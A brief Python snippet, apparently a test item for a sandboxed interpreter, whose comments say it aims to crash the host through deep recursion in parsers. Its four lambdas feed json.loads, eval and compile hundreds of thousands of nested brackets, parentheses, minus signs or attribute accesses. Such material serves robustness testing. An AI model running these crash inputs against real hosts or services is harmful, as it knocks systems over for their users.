# wants: a crash by recursion in parsers
# success: the host is harmed
# variants: preset kernel
import json

attempt(
    lambda: json.loads("[" * 500_000 + "]" * 500_000) and 1 / 0,
    lambda: eval("(" * 100_000 + ")" * 100_000),
    lambda: eval("-" * 500_000 + "1") and 1 / 0,
    lambda: compile("x" + ".a" * 500_000, "deep", "exec") and 1 / 0,
)
